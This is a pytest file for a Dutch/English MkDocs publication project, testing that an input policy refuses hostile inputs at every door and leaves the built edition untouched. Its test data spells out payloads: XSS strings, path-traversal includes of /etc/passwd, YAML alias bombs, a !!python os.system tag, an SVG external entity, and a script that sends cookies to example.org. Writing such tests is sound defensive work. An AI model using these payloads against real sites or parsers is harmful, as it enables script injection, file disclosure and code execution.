"""Nothing gets in from outside (issue 27): one policy (publication/model/policy.py) at
every door. PROBE is the closing note's table: each input, its door, the exit code of
`publish` and the first line it prints; each is a finding (exit 2 or 3, no traceback),
and the edition already in dist/ is left exactly as it was (so nothing of the input
reaches the site, the zip or the books). Below it, each class at the level of its
functions, with inputs of other kinds, and the honest edits that must raise nothing."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from clitools import SKIP_VALIDATORS, tree_digest
from repo import ROOT

from publication.checks import doors
from publication.model import datafiles, policy
from publication.model.project import copy_project
from publication.model.publication import Publication

# --- the probe: every door, through `publish` ---------------------------------------------


def append(rel: str, text: str):
    def change(root: Path):
        path = root / rel
        before = path.read_bytes()
        path.write_bytes(before + text.encode("utf-8"))
        return lambda: path.write_bytes(before)

    return change


def replace(rel: str, old: str, new: str):
    def change(root: Path):
        path = root / rel
        before = path.read_bytes()
        text = before.decode("utf-8")
        assert old in text, (rel, old)
        path.write_bytes(text.replace(old, new, 1).encode("utf-8"))
        return lambda: path.write_bytes(before)

    return change


def create(rel: str, content: bytes | str):
    def change(root: Path):
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
        return lambda: path.unlink()

    return change


def symlink(rel: str, target: str):
    def change(root: Path):
        path = root / rel
        path.symlink_to(target)
        return lambda: path.unlink()

    return change


def fifo(rel: str):
    def change(root: Path):
        path = root / rel
        os.mkfifo(path)
        return lambda: path.unlink()

    return change


def both(*changes):
    def change(root: Path):
        undo = [c(root) for c in changes]
        return lambda: [u() for u in reversed(undo)]

    return change


def recode(rel: str, encoding: str):
    def change(root: Path):
        path = root / rel
        before = path.read_bytes()
        path.write_bytes(before.decode("utf-8").encode(encoding))
        return lambda: path.write_bytes(before)

    return change


BOMB = "\n".join(["b0: &b0 [x, x]"] + [f"b{i}: &b{i} [*b{i - 1}, *b{i - 1}]" for i in range(1, 41)]) + "\n"
NINE = (
    "\n".join(
        ['l0: &l0 ["a","a","a","a","a","a","a","a","a"]']
        + [f"l{i}: &l{i} [" + ",".join([f"*l{i - 1}"] * 9) + "]" for i in range(1, 10)]
    )
    + "\n"
)
REF = "data/references.yml"
REF_URL = "https://www.tweedekamer.nl/kamerstukken/brieven_regering/detail?did=2023D42860&id=2023D42860"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 4">{}</svg>\n'

# name: (door, change, exit code, the start of the first line printed)
PROBE = {
    "include of an absolute path": (
        "includes",
        append("docs/nl/index.md", "\n{!/etc/os-release!}\n"),
        2,
        "docs/nl/index.md:{end}: expected an include of a Markdown file inside includes/, found an absolute path",
    ),
    "include climbing out with ..": (
        "includes",
        append("docs/en/references.md", "\n{!../../../../../../../etc/passwd!}\n"),
        2,
        "docs/en/references.md:{end}: expected an include of a Markdown file inside includes/, found a path that "
        "leaves includes/",
    ),
    "include from a home folder": (
        "includes",
        append("docs/en/history.md", "\n{! ~/.bashrc !}\n"),
        2,
        "docs/en/history.md:{end}: expected an include of a Markdown file inside includes/, found a path in a home",
    ),
    "include of mkdocs.yml": (
        "includes",
        append("docs/nl/checks.md", "\n{!../mkdocs.yml!}\n"),
        2,
        "docs/nl/checks.md:{end}: expected an include of a Markdown file inside includes/, found a path that leaves",
    ),
    "include of itself": (
        "includes",
        append("includes/abbreviations/en.md", "\n{!abbreviations/en.md!}\n"),
        2,
        "docs/en/",
    ),
    "include through a link in includes/": (
        "includes",
        both(symlink("includes/hosts.md", "/etc/hosts"), append("docs/nl/index.md", "\n{!hosts.md!}\n")),
        2,
        "includes/hosts.md: expected no link or special file in the sources (model/policy.py), found a symbolic link",
    ),
    "character reference to U+202E in a page": (
        "pages",
        replace("docs/en/accessibility.md", "# Accessibility statement", "# Accessibility &#x202E;statement"),
        2,
        "docs/en/accessibility.md:6: expected no invisible or direction control character",
    ),
    "right-to-left isolate U+2067 in the Dutch": (
        "pages",
        append("docs/nl/index.md", "\nTekst \u2067omgekeerd\u2069 hier.\n"),
        2,
        "docs/nl/index.md:{end}: expected no invisible or direction control character",
    ),
    "zero-width space in a heading": (
        "pages",
        append("docs/en/references.md", "\n## Ref\u200berences\n"),
        2,
        "docs/en/references.md:{end}: expected no invisible or direction control character",
    ),
    "markup in a page's front matter title": (
        "pages",
        replace("docs/en/accessibility.md", "title: ", "title: <img src=x onerror=alert(1)> "),
        2,
        "docs/en/accessibility.md:2: expected text (no markup",
    ),
    "U+202D as a YAML escape in front matter": (
        "pages",
        replace("docs/nl/accessibility.md", "title: Toegankelijkheid\n", 'title: "Toegankelijk\\u202Dheid"\n'),
        2,
        "docs/nl/accessibility.md:2: expected no invisible or direction control character",
    ),
    "http:// link to an allowed host in a page": (
        "pages",
        append("docs/en/accessibility.md", "\n[Parliament](http://www.tweedekamer.nl/)\n"),
        2,
        "docs/en/accessibility.md:{end}: expected only passive HTML",
    ),
    "page name with a space": (
        "names",
        create("docs/nl/over ons.md", "---\ntitle: Over ons\n---\n# Over ons\n"),
        2,
        "docs/nl/over ons.md: expected a lower-case ASCII name",
    ),
    "page name with non-ASCII letters": (
        "names",
        create("docs/en/privé.md", "---\ntitle: Privé\n---\n# Privé\n"),
        2,
        "docs/en/privé.md: expected a lower-case ASCII name",
    ),
    "two names differing only in case": (
        "names",
        create("docs/assets/Favicon.svg", SVG.format("")),
        2,
        "docs/assets/favicon.svg: expected a name that differs from docs/assets/Favicon.svg by more than letter case",
    ),
    "javascript: in any case as a reference URL": (
        "data",
        replace(REF, REF_URL, "JaVaScRiPt:alert(document.domain)"),
        2,
        "data/references.yml:{line:did=2023D42860&id}: expected no active address",
    ),
    "javascript: with a percent-encoded line break": (
        "data",
        replace(REF, REF_URL, "java%0Ascript:alert(1)"),
        2,
        "data/references.yml:{line:did=2023D42860&id}: expected no active address",
    ),
    "data: URL in the data": (
        "data",
        replace(REF, REF_URL, "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
        2,
        "data/references.yml:{line:did=2023D42860&id}: expected no active address",
    ),
    "http:// reference URL": (
        "data",
        replace(REF, REF_URL, REF_URL.replace("https:", "http:")),
        2,
        "data/references.yml:{line:did=2023D42860&id}: expected an address that keeps the link policy (https, an allowed host), found an "
        "address with the scheme http:",
    ),
    "reference URL to a host not allowed": (
        "data",
        replace(REF, REF_URL, "https://tweedekamer.nl.example.org/x"),
        2,
        "data/references.yml:{line:did=2023D42860&id}: expected an address that keeps the link policy (https, an allowed host), found a "
        "link to the host tweedekamer.nl.example.org",
    ),
    "markup in a reference title": (
        "data",
        replace(REF, "nl: Brede preventieaanpak", "nl: <svg/onload=alert(1)>Brede preventieaanpak"),
        2,
        "data/references.yml:{line:nl: Brede preventieaanpak}: expected text (no markup",
    ),
    "character entity in a term's reason": (
        "data",
        replace("data/terms.yml", "en: Literally “approach", "en: Literally &lt;b&gt;“approach"),
        2,
        "data/terms.yml:{line:en: Literally “approach}: expected text (no markup",
    ),
    "event handler in a label": (
        "data",
        replace("data/labels/nl.yml", "<code>index.html</code>", '<code onclick="steal()">index.html</code>'),
        2,
        "data/labels/nl.yml:{line:<code>index.html</code>}: expected only passive HTML",
    ),
    "javascript: link in a label": (
        "data",
        replace("data/labels/en.yml", 'href="#{example}">', 'href="javascript:go()">'),
        2,
        "data/labels/en.yml:{line:  cite_sentence:}: expected only passive HTML (nh3's allowed tags and "
        "attributes; https and mailto "
        'addresses), found href="javascript:go()" on <a>',
    ),
    "ANSI escape (a control) in a label": (
        "data",
        replace("data/labels/en.yml", "  pdf: PDF, {language}\n", '  pdf: "PDF, \\e[31m{language}"\n'),
        2,
        "data/labels/en.yml:{line:  pdf: PDF, }: expected no invisible or direction control character",
    ),
    "U+2066 as an escape in the figures": (
        "data",
        replace("data/figures.yml", 'nl: "27"', 'nl: "\\u206627"'),
        2,
        "data/figures.yml:",
    ),
    "a data file in UTF-16": (
        "data",
        recode("data/terms.yml", "utf-16"),
        2,
        "data/terms.yml:1: expected UTF-8 text",
    ),
    "duplicate key in the references": (
        "YAML",
        replace(REF, '    dossier: "28741"\n', '    dossier: "28741"\n    dossier: "28742"\n'),
        2,
        'data/references.yml:{line:    number: "106"}: expected each key once in a mapping (YAML keeps only the '
        "later value), found a second key 'dossier' (the first is at line "
        '{line:    dossier: "28741"})',
    ),
    "alias bomb of 40 doublings in the figures": (
        "YAML",
        append("data/figures.yml", BOMB),
        2,
        "data/figures.yml:",
    ),
    "one alias in a label file": (
        "YAML",
        append("data/labels/en.yml", "copy_of_pairs: &p {a: b}\nagain: *p\n"),
        2,
        "data/labels/en.yml:{end}: expected no YAML aliases (model/policy.py), found an alias *p",
    ),
    "lists nested 200 deep in the terms": (
        "YAML",
        append("data/terms.yml", "deep: " + "[" * 200 + "]" * 200 + "\n"),
        2,
        "data/terms.yml:{end}: expected values nested at most 64 deep",
    ),
    "duplicate site_name in mkdocs.yml": (
        "YAML",
        append("mkdocs.yml", "site_name: Another name\n"),
        3,
        "configuration error: {root}/mkdocs.yml:{end}: expected each key once in a mapping",
    ),
    "!!python/object/apply in mkdocs.yml": (
        "YAML",
        append("mkdocs.yml", 'extra_hook: !!python/object/apply:os.system ["touch {root}/PWNED"]\n'),
        3,
        "configuration error: {root}/mkdocs.yml: not valid YAML: could not determine a constructor",
    ),
    "nine by nine alias bomb in mkdocs.yml": (
        "YAML",
        append("mkdocs.yml", NINE),
        3,
        "configuration error: {root}/mkdocs.yml:",
    ),
    "docs_dir outside the project": (
        "YAML",
        replace("mkdocs.yml", "docs_dir: docs", "docs_dir: /etc"),
        3,
        "configuration error: {root}/mkdocs.yml:9: expected 'docs_dir' inside the project",
    ),
    "markup in site_name": (
        "YAML",
        replace("mkdocs.yml", "site_author: ", "site_author: <script>alert(1)</script> "),
        2,
        "mkdocs.yml:",
    ),
    "SVG with a script": (
        "assets",
        create("docs/assets/logo.svg", SVG.format("<script>alert(1)</script>")),
        2,
        "docs/assets/logo.svg:1: expected a passive SVG",
    ),
    "SVG loading an outside image": (
        "assets",
        create("docs/assets/logo.svg", SVG.format('<image href="https://example.org/x.png"/>')),
        2,
        "docs/assets/logo.svg:1: expected a passive SVG",
    ),
    "SVG animating an href to javascript:": (
        "assets",
        create(
            "docs/assets/logo.svg",
            SVG.format('<a><animate attributeName="href" to="javascript:alert(1)"/><text>x</text></a>'),
        ),
        2,
        "docs/assets/logo.svg:1: expected a passive SVG",
    ),
    "SVG with an external entity": (
        "assets",
        create(
            "docs/assets/logo.svg",
            '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY p SYSTEM "file:///etc/passwd">]>\n'
            + SVG.format("<text>&p;</text>"),
        ),
        2,
        "docs/assets/logo.svg:2: expected a passive SVG",
    ),
    "SVG with a style element": (
        "assets",
        create("docs/assets/logo.svg", SVG.format("<style>@import url(https://example.org/x.css);</style>")),
        2,
        "docs/assets/logo.svg:1: expected a passive SVG",
    ),
    "HTML asset with onload": (
        "assets",
        create("docs/assets/print.html", '<!doctype html>\n<html><body onload="alert(1)"><p>x</p></body></html>\n'),
        2,
        "docs/assets/print.html:2: expected only passive HTML",
    ),
    "stylesheet importing from another host": (
        "assets",
        create("docs/assets/extra.css", "body { color: black }\n@import url(https://example.org/x.css);\n"),
        2,
        "docs/assets/extra.css:2: expected a stylesheet that loads nothing from elsewhere",
    ),
    "script outside the vendor folder": (
        "assets",
        create("docs/assets/track.js", "fetch('https://example.org/?'+document.cookie)\n"),
        2,
        "docs/assets/track.js: expected scripts only in docs/assets/vendor/",
    ),
    "HTML named .png": (
        "assets",
        create("docs/assets/chart.png", "<html><script>alert(1)</script></html>"),
        2,
        "docs/assets/chart.png: expected the bytes of a .png file",
    ),
    "XHTML asset": (
        "assets",
        create("docs/assets/x.xhtml", "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>"),
        2,
        "docs/assets/x.xhtml: expected a page or a passive asset",
    ),
    "symbolic link to /etc/passwd in docs/assets": (
        "files",
        symlink("docs/assets/passwd.txt", "/etc/passwd"),
        2,
        "docs/assets/passwd.txt: expected no link or special file in the sources (model/policy.py), found a "
        "symbolic link (to /etc/passwd)",
    ),
    "linked folder /etc in docs/": (
        "files",
        symlink("docs/assets/etc", "/etc"),
        2,
        "docs/assets/etc: expected no link or special file in the sources (model/policy.py), found a symbolic link",
    ),
    "a named pipe in docs/": (
        "files",
        fifo("docs/assets/pipe.txt"),
        2,
        "docs/assets/pipe.txt: expected no link or special file in the sources (model/policy.py), found a special",
    ),
}


def expected_first_line(name: str, project: Path) -> str:
    """PROBE's expected start of the first line, for the project as the input left it:
    {root} the project's folder, {end} the last line of the file it names, {line:TEXT}
    the line of TEXT in that file as it was before (the input changed it)."""

    text = PROBE[name][3].replace("{root}", str(project))
    file = text.removeprefix("configuration error: ").removeprefix(f"{project}/").split(":", 1)[0]
    path = project / file
    if "{end}" in text:
        text = text.replace("{end}", str(path.read_text(encoding="utf-8").rstrip("\n").count("\n") + 1))
    return text if "{line:" not in text else text  # {line:…} is filled in after the input is undone


def fill_lines(text: str, project: Path) -> str:
    import re

    file = text.split(":", 1)[0]
    original = (project / file).read_text(encoding="utf-8") if (project / file).is_file() else ""
    return re.sub(r"\{line:(.*?)\}", lambda m: str(original[: original.index(m[1])].count("\n") + 1), text)


@pytest.fixture(scope="module")
def probed(tmp_path_factory) -> dict:
    """Each input of PROBE in turn, in a copy of the project that already holds an
    edition in dist/: `publish` (outside git: the working tree's files) into it; what it
    said, and whether dist/ is still that edition, byte for byte."""
    project = copy_project(tmp_path_factory.mktemp("doors") / "project", ROOT)
    dist = project / "dist"
    first = publish(project)
    assert first.returncode == 0, first.stdout + first.stderr
    before = tree_digest(dist)
    results = {}
    for name, (_, change, _, _) in PROBE.items():
        undo = change(project)
        try:
            expected = expected_first_line(name, project)
            start = time.monotonic()
            result = publish(project)
            seconds = time.monotonic() - start
        finally:
            undo()
        results[name] = {
            "code": result.returncode,
            "said": result.stdout + result.stderr,
            "first": (result.stdout.strip() or result.stderr.strip()).splitlines()[0:1],
            "expected": fill_lines(expected, project),
            "seconds": seconds,
            "dist unchanged": tree_digest(dist) == before,
            "debris": sorted(p.name for p in project.iterdir() if p.name.startswith(".dist-")),
            "pwned": (project / "PWNED").exists(),
        }
    return results


def publish(project: Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, str(project / "scripts" / "publish.py"), "publish", *SKIP_VALIDATORS, "--quiet"],
        cwd=project,
        capture_output=True,
        text=True,
        timeout=600,
        env={**os.environ, "NO_MKDOCS_2_WARNING": "1"},
    )


@pytest.mark.parametrize("name", list(PROBE))
def test_every_door_refuses_with_a_finding_and_leaves_dist_as_it_was(probed, name):
    result = probed[name]
    assert "Traceback" not in result["said"], result["said"]
    assert result["code"] == PROBE[name][2], result["said"]
    assert result["first"] and result["first"][0].startswith(result["expected"]), (result["first"], result["expected"])
    assert result["dist unchanged"] and result["debris"] == [], result["said"]
    assert not result["pwned"], "the !!python tag ran"


def test_the_probe_covers_every_door_with_at_least_30_inputs():
    doors_named = {door for door, *_ in PROBE.values()}
    assert doors_named >= {"pages", "includes", "data", "assets", "names", "YAML", "files"}
    assert len(PROBE) >= 30


# --- each class, at the level of its functions -------------------------------------------------


def test_the_real_publication_passes_every_door(root):
    project = Publication(root)
    for check in (
        doors.check_files,
        doors.check_includes,
        doors.check_characters,
        doors.check_data,
        doors.check_assets,
    ):
        assert check(project) == [], check.__name__


@pytest.mark.parametrize(
    "text,scheme",
    [
        ("javascript:alert(1)", "javascript"),
        ("JAVASCRIPT:alert(1)", "javascript"),
        ("java\tscript:alert(1)", "javascript"),
        ("java\nscript:alert(1)", "javascript"),
        ("&#106;avascript:alert(1)", "javascript"),
        ("&#x6A;&#x61;vascript:x", "javascript"),
        ("%6A%61vascript:alert(1)", "javascript"),
        ("%256Aavascript:x", "javascript"),
        ("\u200bjavascript:x", "javascript"),
        ("  VBScript:MsgBox(1)", "vbscript"),
        ("data:image/svg+xml;base64,PHN2Zz4=", "data"),
        ("DaTa:text/html,<b>", "data"),
        ("livescript:x", "livescript"),
        ("text with [a link](javascript:go) inside", "javascript"),
    ],
)
def test_an_active_address_is_found_in_any_case_or_encoding(text, scheme):
    assert policy.active_address(text) == scheme


@pytest.mark.parametrize(
    "text",
    [
        "data: zie hieronder",
        "De data laten zien: 76%",
        "JavaScript is niet nodig om deze pagina te lezen",
        "https://www.tweedekamer.nl/kamerstukken/brieven_regering/detail?did=2023D42860&id=2023D42860",
        "Let op: 12:30",
    ],
)
def test_prose_and_honest_addresses_name_no_active_address(text):
    assert policy.active_address(text) is None


@pytest.mark.parametrize(
    "url,problem",
    [
        ("https://www.tweedekamer.nl/x", None),
        ("http://www.tweedekamer.nl/x", "an address with the scheme http: (only https)"),
        ("ftp://www.tweedekamer.nl/x", "an address with the scheme ftp: (only https)"),
        ("https://user:pw@www.tweedekamer.nl/x", "an address with a user name or password"),
        ("https://www.tweedekamer.nl.evil.example/x", "a link to the host www.tweedekamer.nl.evil.example, which"),
        ("https://www.tweedekamer.nl\u202e/x", "an address with spaces or invisible characters"),
        ("//www.tweedekamer.nl/x", "an address with the scheme none: (only https)"),
    ],
)
def test_the_link_policy(url, problem):
    found = policy.address_problem(url, {"www.tweedekamer.nl": "why"})
    assert found == problem or (problem and found and found.startswith(problem)), found


FORBIDDEN = [
    "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069",
    "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u061c", "\u2060", "\u2061", "\u2062",
    "\u2063", "\u2064", "\ufeff", "\u00ad", "\u2028", "\u2029", "\u180e", "\u034f", "\u3164",
    "\ufe0f", "\U000e0041", "\U000e0100", "\x00", "\x07", "\x1b", "\x7f", "\x85", "\ue000",
]  # fmt: skip


@pytest.mark.parametrize("char", FORBIDDEN, ids=[f"U+{ord(c):04X}" for c in FORBIDDEN])
def test_every_invisible_or_direction_character_is_forbidden(char):
    assert policy.forbidden_characters(f"ab{char}cd") == [(2, char)]
    assert policy.forbidden_characters(f"ab{char}cd", frozenset({char})) == []  # a declared use


def test_the_characters_honest_text_uses_are_allowed():
    text = "\ufeffTab\there, CRLF\r\n, no-break\u00a0space, 3\u202f925, €143, „quotes” ‘over de streep’ – é ü ß"
    assert policy.forbidden_characters(text) == []
    assert policy.referenced_characters("&amp; &#233; &#x2013;") == []
    assert policy.referenced_characters("x &#x202E; y &#8238;") == [(2, "\u202e"), (13, "\u202e")]


def test_a_declared_use_allows_a_character_in_its_files_only(tmp_path):
    (tmp_path / "data").mkdir()
    (tmp_path / "docs" / "en").mkdir(parents=True)
    (tmp_path / "data" / "characters.yml").write_text(
        "allowed:\n  - character: U+200F\n    files: [data/terms.yml]\n    why: after an Arabic name\n",
        encoding="utf-8",
    )
    (tmp_path / "data" / "terms.yml").write_text('terms:\n  - nl: "naam\u200f"\n', encoding="utf-8")
    (tmp_path / "docs" / "en" / "page.md").write_text("---\ntitle: T\n---\nName\u200f here\n", encoding="utf-8")
    found = doors.check_characters(Publication(tmp_path))
    assert [(f.file, f.line, f.found) for f in found] == [("docs/en/page.md", 4, "U+200F RIGHT-TO-LEFT MARK")]


def test_a_yaml_escape_is_read_as_the_character_it_names(tmp_path):
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "figures.yml").write_text('a:\n  b: "x\\u2066y"\n  c: "\\N"\n', encoding="utf-8")
    found = doors.check_characters(Publication(tmp_path))
    assert [(f.line, f.found) for f in found] == [
        (2, "U+2066 LEFT-TO-RIGHT ISOLATE in 'a.b'"),
        (3, "U+0085 A CONTROL CHARACTER in 'a.c'"),
    ]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32", "latin-1", "cp1252"])
def test_a_source_in_another_encoding_is_a_finding(tmp_path, encoding):
    """An include, a stylesheet, a source text: UTF-8 or a finding (a page's own
    encoding is the structure check's finding, a data file's its reader's)."""
    for rel in ("includes/x/nl.md", "docs/assets/x.css", "source/x-p33.txt"):
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_bytes("Café à la carte\n".encode(encoding))
    found = doors.check_characters(Publication(tmp_path))
    assert sorted((f.file, f.expected) for f in found) == [
        ("docs/assets/x.css", "UTF-8 text"),
        ("includes/x/nl.md", "UTF-8 text"),
        ("source/x-p33.txt", "UTF-8 text"),
    ]


@pytest.mark.parametrize(
    "name,problem",
    [
        ("daderaanpak.md", None),
        ("iframe-worker", None),
        ("favicon.svg", None),
        ("publication_2.css", None),
        ("Daderaanpak.md", "capital letters"),
        ("README.txt", "capital letters"),
        ("over ons.md", "a space"),
        ("privé.md", "letters outside ASCII"),
        ("straße.md", "letters outside ASCII"),
        ("a..b.md", "characters outside a-z, 0-9, '-', '_', '.'"),
        (".hidden.md", "characters outside a-z, 0-9, '-', '_', '.'"),
        ("page$.md", "characters outside a-z, 0-9, '-', '_', '.'"),
    ],
)
def test_names_are_lower_case_ascii_slugs(name, problem):
    assert policy.name_problem(name) == problem


def test_names_that_differ_only_in_case_or_normalisation_collide():
    paths = ["docs/nl/index.md", "docs/nl/Index.md", "docs/en/cafe\u0301.md", "docs/en/caf\u00e9.md", "docs/en/a.md"]
    assert policy.case_collisions(paths) == [
        ("docs/en/cafe\u0301.md", "docs/en/caf\u00e9.md"),
        ("docs/nl/Index.md", "docs/nl/index.md"),
    ]


# --- YAML ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text,expected,line",
    [
        ("a: &x 1\nb: *x\n", "no YAML aliases (model/policy.py)", 2),
        ("a: &x [1, 2]\nb: {c: *x}\n", "no YAML aliases (model/policy.py)", 2),
        ("base: &b {x: 1}\nthis:\n  <<: *b\n", "no YAML aliases (model/policy.py)", 3),
        (BOMB, "no YAML aliases (model/policy.py)", 2),
        ("a: 1\nb: 2\na: 3\n", "each key once in a mapping (YAML keeps only the later value)", 3),
        ("x:\n  - {k: 1, k: 2}\n", "each key once in a mapping (YAML keeps only the later value)", 2),
        ("1: a\n01: b\n", "each key once in a mapping (YAML keeps only the later value)", 2),
        ("yes: a\ntrue: b\n", "each key once in a mapping (YAML keeps only the later value)", 2),
        ("a: " + "[" * 70 + "]" * 70 + "\n", "values nested at most 64 deep (model/policy.py)", 1),
        ("a: " + "{b: " * 5000 + "}" * 5000 + "\n", "values nested at most 64 deep (model/policy.py)", 1),
    ],
)
def test_yaml_beyond_the_policy_is_a_data_error_at_its_line(tmp_path, text, expected, line):
    path = tmp_path / "x.yml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(datafiles.DataFileError) as err:
        datafiles.load(path)
    assert (err.value.expected, err.value.line) == (expected, line), str(err.value)


def test_a_duplicate_key_names_both_lines(tmp_path):
    path = tmp_path / "x.yml"
    path.write_text("title:\n  nl: a\n  en: b\n  nl: c\n", encoding="utf-8")
    with pytest.raises(datafiles.DataFileError) as err:
        datafiles.load(path)
    assert str(err.value).endswith(":4: expected each key once in a mapping (YAML keeps only the later value), "
                                   "found a second key 'nl' (the first is at line 2)")  # fmt: skip


def test_mkdocs_yml_has_a_small_alias_budget_and_no_bomb():
    small = "a: &a [x, x]\nb: [*a, *a]\n"
    assert datafiles.parse_config(small)["b"] == [["x", "x"], ["x", "x"]]
    with pytest.raises(datafiles.PolicyError, match="alias"):
        datafiles.parse_config(NINE)
    doubling = "\n".join(
        ["b0: &b0 [" + ", ".join(["x"] * 400) + "]"] + [f"b{i}: &b{i} [*b{i - 1}, *b{i - 1}]" for i in range(1, 9)]
    )
    with pytest.raises(datafiles.PolicyError, match="alias bomb"):
        datafiles.parse_config(doubling)


def test_front_matter_is_read_within_the_same_limits(tmp_path):
    from publication.model import pages

    with pytest.raises(pages.PageError, match="a second key 'title'"):
        pages.parse("---\ntitle: A\ntitle: B\n---\n# A\n")
    with pytest.raises(pages.PageError, match="alias"):
        pages.parse("---\ntitle: &t A\ndescription: *t\n---\n# A\n")


MKDOCS_UNSAFE = "site_name: x\nextra: !!python/object/apply:os.system ['touch {pwned}']\n"


@pytest.mark.parametrize("command", ["build", "serve"])
def test_mkdocs_started_from_the_project_reads_yaml_safely(tmp_path, command):
    """make serve and the build start MkDocs through outputs/mkdocs_run.py: a
    !!python tag in mkdocs.yml is refused, never run; so is a key given twice."""
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "index.md").write_text("# x\n", encoding="utf-8")
    pwned = tmp_path / "PWNED"
    (tmp_path / "mkdocs.yml").write_text(MKDOCS_UNSAFE.format(pwned=pwned), encoding="utf-8")
    args = [command] + (["--dev-addr", "127.0.0.1:0"] if command == "serve" else ["--site-dir", str(tmp_path / "s")])
    result = subprocess.run(
        [sys.executable, "-m", "publication.outputs.mkdocs_run", *args],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode != 0 and not pwned.exists(), result.stderr
    assert "could not determine a constructor for the tag 'tag:yaml.org,2002:python/object/apply:os.system'" in (
        result.stderr
    )
    (tmp_path / "mkdocs.yml").write_text("site_name: x\nsite_name: y\n", encoding="utf-8")
    result = subprocess.run(
        [sys.executable, "-m", "publication.outputs.mkdocs_run", "build", "--site-dir", str(tmp_path / "s")],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode != 0 and "a second key 'site_name' (the first is at line 1)" in result.stderr


def test_make_serve_goes_through_the_safe_start():
    """make serve runs scripts/serve.py, which starts MkDocs through the safe start."""
    makefile = (ROOT / "Makefile").read_text(encoding="utf-8")
    serve = makefile.split("\nserve:", 1)[1].split("\n\n", 1)[0]
    assert "scripts/serve.py" in serve and "-m mkdocs" not in serve
    import importlib.util

    spec = importlib.util.spec_from_file_location("serve_script", ROOT / "scripts" / "serve.py")
    script = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(script)
    assert script.command("127.0.0.1:8000")[1:4] == ["-m", "publication.outputs.mkdocs_run", "serve"]


# --- includes at build ------------------------------------------------------------------------


def include_markdown(root: Path):
    import markdown
    from markdown_include.include import MarkdownInclude

    from publication.render.includes import ConfinedIncludeExtension

    return markdown.Markdown(
        extensions=[
            MarkdownInclude({"base_path": str(root / "includes"), "throwException": False}),
            ConfinedIncludeExtension(root=str(root)),
        ]
    )


def test_the_build_includes_from_includes_only(tmp_path):
    from publication.render.includes import IncludeRefused

    (tmp_path / "includes").mkdir()
    (tmp_path / "includes" / "a.md").write_text("*A*\n", encoding="utf-8")
    (tmp_path / "includes" / "loop.md").write_text("{!loop.md!}\n", encoding="utf-8")
    (tmp_path / "includes" / "half.md").write_text("{!/etc/host", encoding="utf-8")
    (tmp_path / "includes" / "link.md").symlink_to("/etc/hostname")
    (tmp_path / "secret.md").write_text("secret\n", encoding="utf-8")
    assert "<em>A</em>" in include_markdown(tmp_path).convert("{!a.md!}")
    for page in ("{!/etc/hostname!}", "{!../secret.md!}", "{!link.md!}", "{!loop.md!}", "{!half.md!}name!}"):
        with pytest.raises(IncludeRefused):
            include_markdown(tmp_path).convert(page)  # throwException false: still refused


def test_an_include_finding_names_the_page_and_line(tmp_path):
    (tmp_path / "includes" / "x").mkdir(parents=True)
    (tmp_path / "includes" / "x" / "a.md").write_text("{!x/b.md!}\n", encoding="utf-8")
    (tmp_path / "includes" / "x" / "b.md").write_text("{!x/a.md!}\n", encoding="utf-8")
    (tmp_path / "docs" / "en").mkdir(parents=True)
    (tmp_path / "docs" / "en" / "p.md").write_text("# P\n\n{!x/a.md!}\n{!C:\\secret.md!}\n", encoding="utf-8")
    found = [(f.file, f.line, f.found) for f in doors.check_includes(Publication(tmp_path))]
    assert ("docs/en/p.md", 3, "an include of itself (p.md -> a.md -> b.md -> a.md)") in found
    assert ("docs/en/p.md", 4, "an absolute path (C:\\secret.md)") in found


# --- the snapshot ---------------------------------------------------------------------------------


def git(root: Path, *args: str) -> None:
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.org",
           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.org"}  # fmt: skip
    subprocess.run(["git", *args], cwd=root, check=True, env=env, capture_output=True)


@pytest.mark.parametrize("state", ["committed", "draft", "no git"])
def test_the_snapshot_refuses_a_link_and_copies_nothing(tmp_path, state):
    from publication.outputs import dist as dist_mod

    root = tmp_path / "repo"
    (root / "docs" / "assets").mkdir(parents=True)
    (root / "docs" / "index.md").write_text("# x\n", encoding="utf-8")
    (root / "mkdocs.yml").write_text("site_name: x\n", encoding="utf-8")
    (root / "docs" / "assets" / "passwd").symlink_to("/etc/passwd")
    if state != "no git":
        git(root, "init", "-q")
        git(root, "add", ".")
        git(root, "commit", "-q", "-m", "x")
    if state == "draft":
        (root / "docs" / "index.md").write_text("# y\n", encoding="utf-8")
    with pytest.raises(dist_mod.UnsafeSources) as err:
        dist_mod.snapshot(root, tmp_path / "snap", allow_uncommitted=True)
    assert err.value.entries == [("docs/assets/passwd", "a symbolic link (to /etc/passwd)")]
    assert not any(p.is_file() for p in (tmp_path / "snap").rglob("*"))


def test_a_hard_link_and_a_pipe_are_unsafe_files(tmp_path):
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "a.md").write_text("x", encoding="utf-8")
    os.link(tmp_path / "docs" / "a.md", tmp_path / "elsewhere.md")
    os.mkfifo(tmp_path / "docs" / "p.md")
    assert policy.unsafe_files(tmp_path, ["docs"]) == [
        ("docs/a.md", "a file with 1 other hard link(s)"),
        ("docs/p.md", "a special file (a pipe, socket or device)"),
    ]


# --- assets ---------------------------------------------------------------------------------------

PASSIVE_SVG = SVG.format(
    '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient>'
